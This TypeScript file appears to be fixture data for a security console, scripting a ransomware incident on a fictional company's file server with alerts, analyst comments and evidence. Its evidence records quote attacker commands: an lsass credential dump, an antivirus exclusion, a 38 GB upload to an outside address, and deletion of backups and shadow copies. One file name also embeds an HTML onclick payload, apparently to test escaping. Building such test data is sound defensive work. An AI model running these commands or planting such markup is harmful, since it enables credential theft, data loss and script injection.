import { named } from '../directory.ts';
import { device, ev, file, ip, malware, process, registryValue, user } from '../parts.ts';
import type { Story } from './story.ts';

const admin = named('Anneliese Vogel (adm)=adm-avogel');
const FS = 'HLD-SRV-FS03';
const BACKUP = 'HLD-SRV-BKP01';
const DESK = 'HLD-FIN-WS014';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const TOOL = 'C:\\PerfLogs\\svch0st.exe';
const EVIL = '203.0.113.66';

export const ransomware: Story = {
  index: 0,
  name: 'Ransomware prepared on file server HLD-SRV-FS03, backups attacked, by one stolen administrator account',
  summary:
    'An administrator account, taken from a finance laptop, reached the file server over remote desktop. It switched off protection, deleted shadow copies, stopped the backup service and copied 38 GB out before encryption started. Encryption was stopped after 212 files.',
  text: 'Alerts from one laptop and two servers that share the account adm-avogel and the outside address 203.0.113.66.',
  status: 'inProgress',
  assignee: 0,
  tags: ['Crisis 2026-06', 'Finance'],
  systemTags: ['Ransomware', 'Attack disruption', 'Critical asset'],
  comments: [
    [41, 0, 'HLD-SRV-FS03 and HLD-FIN-WS014 are isolated. Do NOT switch them off: memory is being saved.'],
    [33, 3, 'adm-avogel disabled in both directories; krbtgt reset is planned for tonight.'],
    [12, 0, 'Backup of Sunday is intact (offline copy). 212 files to restore: list is with the storage team.'],
  ],
  alerts: [
    {
      ago: 191,
      workload: 'mde',
      severity: 2,
      category: 'CredentialAccess',
      title: 'Memory of the sign-in process was read',
      text: 'A program opened lsass.exe with rights that allow to copy passwords and tickets from it.',
      advice: 'device',
      techniques: 'T1003.001',
      evidence: (ms) => [
        device(DESK, 'sa compromised/Main device', admin, ['Finance']),
        user(admin, 'ma compromised'),
        process(
          [
            'C:\\Windows\\System32\\rundll32.exe',
            'rundll32.exe comsvcs.dll, MiniDump 708 C:\\PerfLogs\\d.bin full',
            CMD,
          ],
          DESK,
          ms,
          'ma',
          admin,
        ),
        file('C:\\PerfLogs\\d.bin', DESK, 'sr created'),
      ],
    },
    {
      ago: 164,
      workload: 'mdi',
      severity: 2,
      category: 'LateralMovement',
      title: 'Administrator signed in to a server from an unusual computer',
      text: 'The account adm-avogel opened a remote desktop on a file server from a finance laptop. It had only used the jump server before.',
      advice: 'identity',
      techniques: 'T1021.001 T1078.002',
      evidence: (ms) => [
        user(admin, 'ma compromised'),
        device(FS, 'sa attacked'),
        ev('hostLogonSession', {
          account: user(admin),
          host: device(FS),
          sessionId: '0x3e9a41',
          startUtcDateTime: new Date(ms).toISOString(),
          endUtcDateTime: null,
        }),
      ],
    },
    {
      ago: 131,
      workload: 'mde',
      severity: 2,
      category: 'DefenseEvasion',
      title: 'Antivirus exclusion added for a whole drive',
      text: 'Somebody told the antivirus to skip drive D: and a folder that programs do not normally use.',
      advice: 'device',
      techniques: 'T1685',
      evidence: (ms) => [
        device(FS, 'sa compromised/Main device', admin),
        process(
          [
            'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            'Add-MpPreference -ExclusionPath D:\\,C:\\PerfLogs',
            CMD,
          ],
          FS,
          ms,
          'sa',
          admin,
        ),
        registryValue('SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths', 'D:\\', '0', FS, 'sa edited'),
      ],
    },
    {
      ago: 118,
      workload: 'mde',
      severity: 3,
      category: 'Exfiltration',
      title: 'Large upload by a file copy tool under a false name',
      text: 'A known synchronising tool, renamed to resemble a system process, sent 38 GB to an outside address.',
      advice: 'data',
      techniques: 'T1567.002 T1036.005',
      evidence: (ms) => [
        device(FS, 'sa compromised/Main device'),
        process([TOOL, 'svch0st.exe copy D:\\Shares box:h --transfers 32 --max-age 3y', CMD], FS, ms, 'ma', admin),
        ip(EVIL, 'ma destination'),
        ev('networkConnection', {
          sourceAddress: ip('10.20.14.31'),
          sourcePort: 50211,
          destinationAddress: ip(EVIL, 'ma'),
          destinationPort: 443,
          protocol: 'tcp',
        }),
      ],
    },
    {
      ago: 62,
      workload: 'mde',
      severity: 3,
      category: 'Impact',
      title: 'Backup service stopped and its catalogue deleted',
      text: 'The backup agent was stopped on the backup server and its list of copies was removed.',
      advice: 'device',
      techniques: 'T1489 T1490',
      evidence: (ms) => [
        device(BACKUP, 'sa attacked', admin, ['Tier 0']),
        process([CMD, 'cmd /c net stop "HldBackup" /y & wbadmin delete catalog -quiet', CMD], BACKUP, ms, 'mr', admin),
      ],
    },
    {
      ago: 55,
      workload: 'mde',
      severity: 3,
      category: 'Ransomware',
      title: 'Shadow copies deleted',
      text: 'All restore points of the server were deleted with a built-in tool. Ransomware does this before it encrypts.',
      advice: 'malware',
      techniques: 'T1490',
      evidence: (ms) => [
        device(FS, 'ma compromised/Main device'),
        process(
          ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet', CMD],
          FS,
          ms,
          'ma',
          admin,
        ),
      ],
    },
    {
      ago: 51,
      workload: 'mde',
      severity: 3,
      category: 'Ransomware',
      title: "'Ashmoor' ransomware was blocked",
      text: 'A process renamed and rewrote files on a share. It was stopped after 212 files; a note to pay was left in each folder.',
      advice: 'malware',
      techniques: 'T1486',
      source: 'antivirus',
      threat: 'Ransom:Win64/Ashmoor.B',
      evidence: (ms) => [
        device(FS, 'mh compromised/Main device'),
        malware(
          'Ransom:Win64/Ashmoor.B',
          'Ransomware',
          [file('C:\\PerfLogs\\lk.exe', FS, 'mr')],
          [process(['C:\\PerfLogs\\lk.exe', 'lk.exe -p D:\\Shares -m fast', CMD], FS, ms, 'mb', admin)],
          'mr',
        ),
        file('D:\\Shares\\Finance\\<b onclick=alert(1)>READ_ME.txt', FS, 'ma created'),
        ev('fileHash', { algorithm: 'sha256', value: 'c7'.repeat(32) }, 'mb'),
      ],
    },
    {
      ago: 48,
      workload: 'xdr',
      severity: 3,
      category: 'Impact',
      title: 'Account contained by automatic attack disruption',
      text: 'Signals of several products show one attacker at work. The account was kept from signing in to further devices.',
      advice: 'Leave the account contained until its password and tickets are replaced.',
      techniques: 'T1486 T1021.001',
      evidence: () => [user(admin, 'mr compromised'), device(FS, 'mw compromised'), device(DESK, 'mr compromised')],
    },
  ],
};
